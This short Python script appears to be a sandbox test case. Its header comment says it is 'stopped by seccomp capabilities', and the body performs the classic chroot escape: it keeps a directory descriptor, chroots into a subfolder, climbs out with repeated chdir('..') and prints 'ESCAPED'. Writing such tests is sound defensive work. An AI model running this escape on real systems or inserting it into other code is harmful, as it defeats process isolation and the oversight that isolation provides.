# stopped by: seccomp capabilities
import os
os.mkdir('inner')
before = os.open('.', os.O_RDONLY)
os.chroot('inner')
os.fchdir(before)
for _ in range(30):
    os.chdir('..')
os.chroot('.')
print('ESCAPED')
